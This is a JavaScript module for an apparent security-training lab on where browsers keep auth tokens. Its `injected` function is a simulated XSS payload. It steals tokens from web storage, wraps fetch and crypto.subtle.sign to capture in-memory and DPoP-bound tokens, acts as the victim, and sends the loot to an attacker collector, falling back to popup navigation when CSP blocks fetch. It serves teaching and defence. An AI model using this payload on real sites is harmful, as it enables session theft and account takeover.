// @ts-check
// Lesson 4's entry module ("Where the browser keeps it"): signs the lab account in six ways
// (localStorage, sessionStorage, a closure, an HttpOnly cookie, a backend-for-frontend, and tokens
// bound by DPoP to a key the page cannot export), runs the
// attacker's injected script — inline, so the strict CSP refuses it, or as a trusted script ("2b")
// — shows what it could read and send (by fetch, or by navigating a window when connect-src
// refuses the fetch), and asks the attacker's machine to replay the loot.

import { bind, dpopKey, part, partAs, parts, partsAs, problem, randomId, send, whenHydrated } from "../../../browser/kit.js";
import { credentials, guarded, showGoal, solved } from "../../lab.js";

/**
 * What the injected script reports back to the lab, by a `tokenshop:injected` event.
 * @typedef {object} Injected
 * @property {Record<string, string>} [read] what it could read, by store
 * @property {{ cookie: number, bff: number }} [rode] the statuses of the requests it made as the victim
 * @property {string} [memory] what it caught from the app that keeps its tokens in a closure
 * @property {string} [dpop] what it caught and did with the app whose tokens are bound to its key
 * @property {string} sent "sent", or why it could not send its loot
 */

/**
 * One thing the collector received (server/drops.rs).
 * @typedef {{ from: string, kind: string, value: string }} Loot
 */

/**
 * What the attacker's machine got when it replayed one (server/replay.rs).
 * @typedef {{ from: string, kind: string, status: number, said: string, lasts: string, until?: number }} Outcome
 */

/**
 * The injected script. It runs as an attacker's inline script would — inserted into the page
 * (modes "off" and "strict"), or as a script already trusted by the page ("anyway") — reads what
 * it can, acts in the tab, and posts its loot to the collector on the partner origin.
 *
 * It is serialised with toString() into an inline script, so it must stay self-contained: no
 * imports, nothing from outside its own body. It reports to the lab only by a DOM event.
 * @param {string} collector the partner origin, where the attacker's collector listens
 * @param {string} drop this run's name at the collector
 * @returns {void}
 */
function injected(collector, drop) {
  /** @type {{ from: string, kind: string, value: string }[]} */
  const items = [];
  /** @type {Record<string, string>} */
  const read = {};
  /**
   * @param {string} store
   * @param {string} from
   * @param {string | null} raw
   */
  const take = (store, from, raw) => {
    let kept = null;
    try {
      kept = JSON.parse(raw ?? "null");
    } catch {
      kept = null;
    }
    if (kept?.access) items.push({ from, kind: "access", value: kept.access });
    if (kept?.refresh) items.push({ from, kind: "refresh", value: kept.refresh });
    read[store] = kept?.access ? "the access and the refresh token, in one line" : "nothing";
  };
  take("local", "localStorage", localStorage.getItem("lab.tokens"));
  take("session", "sessionStorage", sessionStorage.getItem("lab.tokens"));
  const boundRefresh = sessionStorage.getItem("lab.dpop.refresh");
  if (boundRefresh) items.push({ from: "dpop", kind: "refresh-dpop", value: boundRefresh });
  read.dpop = `${boundRefresh ? "the refresh token, from sessionStorage" : "nothing in storage"}; the key by name: nothing, it is in the app's closure, so it wrapped fetch and crypto.subtle.sign to wait for the app's next call`;
  const cookies = document.cookie.split(";").map((c) => c.trim().split("=")[0]).filter(Boolean);
  read.cookie = `nothing: document.cookie shows ${cookies.length ? cookies.join(", ") : "no cookies"}, not the HttpOnly one`;
  read.bff = read.cookie;
  read.memory = "nothing by name: the variable is inside the app's closure; so it wrapped fetch to wait for the app's next call";
  // Part of the simulated attack, not a way for the lab's scripts to share anything: the attacker
  // keeps the page's real fetch on window, so that a second injection (2b after 2) wraps the real
  // fetch and not the first one's wrapper.
  const page = /** @type {Window & { tokenshopRealFetch?: typeof fetch }} */ (window);
  const realFetch = page.tokenshopRealFetch = page.tokenshopRealFetch ?? window.fetch;
  // When connect-src blocks the fetch, the loot leaves by navigation instead: a window opened on
  // the collector with the loot in its URL. No CSP directive governs where a page may navigate
  // (navigate-to was proposed and never shipped), so this works under the strictest policy.
  const navigate = () => {
    const url = `${collector}/attacker/collect/${drop}?items=${encodeURIComponent(JSON.stringify(items))}`;
    const opened = window.open(url, `collector-${drop}`, "popup,width=480,height=260");
    if (!opened) return "blocked: the browser refused to open a window (a popup blocker)";
    setTimeout(() => opened.close(), 3000);
    return "navigated";
  };
  // The DPoP app signs a proof with its key before each call: a wrapper on sign sees the key object
  // go by. It cannot export it (extractable: false), but it can hand it back to sign with.
  const subtle = /** @type {SubtleCrypto & { tokenshopRealSign?: SubtleCrypto["sign"] }} */ (crypto.subtle);
  const realSign = subtle.tokenshopRealSign = subtle.tokenshopRealSign ?? subtle.sign.bind(subtle);
  /** @type {CryptoKey | null} */
  let pageKey = null;
  subtle.sign = (algorithm, key, data) => {
    if (typeof algorithm === "object" && algorithm.name === "ECDSA") pageKey = key;
    return realSign(algorithm, key, data);
  };
  /** @param {Uint8Array | ArrayBuffer} bytes */
  const b64u = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
  /**
   * Rides the DPoP sign-in inside the tab: a proof of its own making, signed by the page's key,
   * under the header of the app's own proof (which names that key), reused as it is.
   * @param {string} url
   * @param {string} token
   * @param {string} header the first part of the app's proof, still base64url
   */
  const ride_bound = async (url, token, header) => {
    if (!pageKey) return "no key went by";
    let exported = "";
    try {
      await crypto.subtle.exportKey("jwk", pageKey);
      exported = "it exported the private key (unexpected)";
    } catch (e) {
      exported = `exporting the key failed (${e instanceof Error ? e.name : String(e)}): it never leaves the tab`;
    }
    const u = new URL(url, location.href);
    const ath = b64u(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(token)));
    const claims = { jti: crypto.randomUUID(), htm: "GET", htu: `${u.origin}${u.pathname}`, iat: Math.floor(Date.now() / 1000), ath };
    const input = `${header}.${b64u(new TextEncoder().encode(JSON.stringify(claims)))}`;
    const signature = await realSign({ name: "ECDSA", hash: "SHA-256" }, pageKey, new TextEncoder().encode(input));
    const res = await realFetch(u.href, { headers: { Authorization: `DPoP ${token}`, DPoP: `${input}.${b64u(signature)}` }, credentials: "omit" });
    const body = await res.json().catch(() => ({}));
    items.push({ from: "dpop", kind: "rode", value: `GET /api/v1/me with a proof signed by the page's own key → ${res.status}${body.email ? " as " + body.email : ""}` });
    return `${exported}; but it signed a proof of its own with the key and called GET /api/v1/me as you → ${res.status}`;
  };
  const sendLoot = () => realFetch(`${collector}/attacker/collect/${drop}`, {
    method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ items }),
  }).then(() => "sent", () => navigate());
  /** @param {object} detail */
  const report = (detail) => document.dispatchEvent(new CustomEvent("tokenshop:injected", { detail }));
  let caughtMemory = false;
  let caughtBound = false;
  window.fetch = (input, init) => {
    const headers = init?.headers;
    /** @type {Record<string, string>} */
    const plain = headers && !(headers instanceof Headers) && !Array.isArray(headers) ? headers : {};
    const auth = plain.Authorization ?? "";
    if (!caughtMemory && auth.startsWith("Bearer ") && String(input).startsWith("/api/v1/me") && plain["X-Lab-App"] === "memory") {
      caughtMemory = true;
      items.push({ from: "memory", kind: "access", value: auth.slice(7) });
      sendLoot().then((sent) => report({ memory: "its access token, caught in the app's next call", sent }));
    }
    if (!caughtBound && auth.startsWith("DPoP ") && String(input).includes("/api/v1/me") && plain.DPoP) {
      caughtBound = true;
      const token = auth.slice(5);
      items.push({ from: "dpop", kind: "access-dpop", value: token });
      ride_bound(String(input), token, plain.DPoP.split(".")[0])
        .then((did) => sendLoot().then((sent) => report({ dpop: `its access token (caught in the app's next call) and the refresh token; ${did}`, sent })));
    }
    if (caughtMemory && caughtBound) window.fetch = realFetch;
    return realFetch(input, init);
  };
  /**
   * @param {string} store
   * @param {string} path
   */
  const ride = async (store, path) => {
    const res = await realFetch(path, { credentials: "same-origin" });
    const body = await res.json().catch(() => ({}));
    items.push({ from: store, kind: "rode", value: `GET ${path} → ${res.status}${body.email ? " as " + body.email : ""}` });
    return res.status;
  };
  Promise.all([ride("cookie", "/learn/lab/xss/cookie/whoami"), ride("bff", "/learn/lab/xss/bff/me")])
    .then(([cookie, bff]) => sendLoot().then((sent) => report({ read, rode: { cookie, bff }, sent })));
}

/**
 * The table's row for each place the injected script took something from, by the name the
 * collector's loot and the replay's outcomes give it.
 * @type {Record<string, string>}
 */
const STORE_OF = { localStorage: "local", sessionStorage: "session", memory: "memory", cookie: "cookie", bff: "bff", dpop: "dpop" };

/**
 * @param {HTMLElement} demo the `[data-lab="xss"]` panel
 * @returns {void}
 */
function startXss(demo) {
  const collector = demo.dataset.collector ?? "";
  const drop = randomId();
  const result = part(demo, "csp-result");
  const status = part(demo, "status");
  const inject = partAs(demo, "inject", HTMLButtonElement);
  const replay = partAs(demo, "replay", HTMLButtonElement);
  // Only under the strict CSP: without one the injected script runs anyway.
  const anyway = partsAs(demo, "inject-anyway", HTMLButtonElement).at(0);
  /**
   * The cell of `column` in the row of `store`.
   * @param {string} store
   * @param {string} column
   * @returns {HTMLElement}
   */
  const cell = (store, column) => {
    const row = partsAs(demo, "row", HTMLTableRowElement).find((tr) => tr.dataset.store === store);
    if (!row) throw new Error(`no row for ${store} in the XSS lab`);
    return part(row, column);
  };
  /**
   * @param {string} store
   * @param {string} column
   * @param {string} text
   */
  const set = (store, column, text) => {
    cell(store, column).textContent = text;
  };
  /** @type {ReturnType<typeof setInterval> | undefined} */
  let memoryApp;
  /** @type {ReturnType<typeof setInterval> | undefined} */
  let boundApp;
  /** The lesson's "What this shows", kept hidden until the learner has run the attack. */
  const reveal = () => {
    const shows = document.querySelector('[data-lab="xss-shows"]');
    if (shows instanceof HTMLElement) shows.hidden = false;
  };

  part(demo, "signin").addEventListener("click", guarded(demo, async () => {
    const account = await credentials();
    /** @type {[string, Storage | null][]} */
    const kept = [["local", localStorage], ["session", sessionStorage], ["memory", null]];
    for (const [store, storage] of kept) {
      const login = await send("POST", "/api/v1/auth/login", { body: account });
      set(store, "signed-in", login.status === 200 ? `yes (${login.status})` : problem(login));
      if (login.status !== 200) continue;
      /** @type {{ access: string, refresh: string }} */
      const tokens = { access: login.data.access_token, refresh: login.data.refresh_token };
      if (storage) {
        storage.setItem("lab.tokens", JSON.stringify(tokens));
      } else {
        // The app keeps its tokens in this closure and calls the API every 2 s, as a SPA would.
        // It calls the page's fetch as it is at each call, so a script that wraps it sees them.
        clearInterval(memoryApp);
        memoryApp = setInterval(() => fetch("/api/v1/me", {
          headers: { Authorization: `Bearer ${tokens.access}`, "X-Lab-App": "memory" }, credentials: "omit",
        }).catch(() => {}), 2000);
      }
    }
    // The sixth way: the tokens bound by DPoP to a key this page made non-extractable. The access
    // token stays in the app's closure, the refresh token in sessionStorage (to outlive a reload),
    // and the app calls the API every 2 s with a fresh proof, as a SPA would.
    const key = await dpopKey();
    const bound = await send("POST", "/api/v1/auth/login", { body: account, dpop: key });
    set("dpop", "signed-in", bound.status === 200 ? `yes (${bound.status}, token_type ${bound.data.token_type})` : problem(bound));
    if (bound.status === 200) {
      sessionStorage.setItem("lab.dpop.refresh", bound.data.refresh_token);
      const access = bound.data.access_token;
      clearInterval(boundApp);
      boundApp = setInterval(() => send("GET", "/api/v1/me", { token: access, dpop: key }).catch(() => {}), 2000);
    }
    for (const store of ["cookie", "bff"]) {
      const res = await fetch(`/learn/lab/xss/${store}/login`, {
        method: "POST", credentials: "same-origin", headers: { "Content-Type": "application/json" }, body: JSON.stringify(account),
      });
      set(store, "signed-in", res.ok ? `yes (${res.status})` : `no (${res.status})`);
    }
    const cells = parts(demo, "signed-in");
    status.textContent = `Signed in ${cells.filter((td) => td.textContent?.startsWith("yes")).length} of ${cells.length} ways (the table says how each went). Next: run the injected script.`;
    inject.disabled = false;
    if (anyway) anyway.disabled = false;
  }));

  document.addEventListener("tokenshop:injected", guarded(demo, async (/** @type {Event} */ event) => {
    if (!(event instanceof CustomEvent)) return;
    /** @type {Injected} */
    const { read, rode, memory, dpop, sent } = event.detail;
    if (read) Object.entries(read).forEach(([store, text]) => set(store, "read", text));
    if (rode) {
      set("cookie", "read", `${cell("cookie", "read").textContent}; but it acted as you: whoami → ${rode.cookie}`);
      set("bff", "read", `${cell("bff", "read").textContent}; but it acted as you through the BFF → ${rode.bff}`);
    }
    if (memory) set("memory", "read", memory);
    if (dpop) set("dpop", "read", dpop);
    result.textContent = sent === "sent"
      ? "The injected script ran and sent its loot to the attacker's collector with fetch: no CSP stood in its way."
      : sent === "navigated"
        ? "The injected script ran. connect-src refused its fetch to the attacker's origin, so it opened a window on the collector with the loot in the URL: "
          + "a navigation, which no CSP directive governs. CSP narrowed the ways out; it did not close them."
        : `The injected script ran, but could not send its loot: ${sent}.`;
    // A navigation reaches the collector as its window loads, a moment later: ask a few times.
    /** @type {Loot[]} */
    let got = [];
    for (let tries = sent === "navigated" ? 10 : 1; tries > 0 && got.length === 0; tries -= 1) {
      if (sent === "navigated") await new Promise((resolve) => setTimeout(resolve, 500));
      got = (await send("GET", `/learn/lab/xss/attacker/${drop}`)).data ?? [];
    }
    for (const store of Object.values(STORE_OF)) {
      const mine = got.filter((l) => STORE_OF[l.from] === store);
      set(store, "sent", mine.length ? mine.map((l) => (l.kind === "rode" ? "a note of what it did" : `the ${l.kind.replace("-dpop", "")} token`)).join(", ") : "nothing received");
    }
    replay.disabled = got.length === 0;
    demo.dataset.injected = "true";
  }));

  document.addEventListener("securitypolicyviolation", (event) => {
    if (!demo.dataset.injecting || !event.violatedDirective.startsWith("script-src")) return;
    result.textContent = `The browser refused the injected inline script (${event.violatedDirective}): it carries no nonce, so nothing of it ran and nothing was stolen. `
      + "That is what a strict CSP buys. Now try 2b: a script that got in another way (say a compromised library from this origin), which the CSP cannot tell from the page's own.";
    demo.dataset.cspBlocked = "true";
    reveal();
    solved(`the strict CSP refused the injected inline script (${event.violatedDirective}), so the theft failed before it began`);
  });

  inject.addEventListener("click", () => {
    demo.dataset.injecting = "true";
    result.textContent = "";
    const script = document.createElement("script");
    script.textContent = `(${injected.toString()})(${JSON.stringify(collector)}, ${JSON.stringify(drop)});`;
    document.body.append(script);
  });
  anyway?.addEventListener("click", () => injected(collector, drop));

  replay.addEventListener("click", guarded(demo, async () => {
    const replayed = await send("POST", `/learn/lab/xss/attacker/${drop}/replay`);
    /** @type {Outcome[]} */
    const outcomes = replayed.data ?? [];
    const worked = outcomes.filter((o) => o.status === 200);
    for (const store of Object.values(STORE_OF)) {
      const mine = outcomes.filter((o) => STORE_OF[o.from] === store);
      if (!mine.length) continue;
      set(store, "replayed", mine.map((o) => (o.status ? `${o.kind}: ${o.status} ${o.said}` : o.said)).join("; "));
      set(store, "lasts", mine.map((o) => o.lasts).filter(Boolean).join("; "));
    }
    status.textContent = `The attacker replayed ${outcomes.length} stolen credentials from elsewhere: ${worked.length} worked (the table's last columns say which).`;
    reveal();
    if (worked.length) {
      const first = worked[0];
      solved(`the ${first.kind} token from ${first.from} worked from the attacker's machine (${first.said})`);
    }
  }));
  demo.dataset.ready = "true";
}

whenHydrated(() => {
  showGoal();
  const demo = bind("xss");
  if (demo) startXss(demo);
});
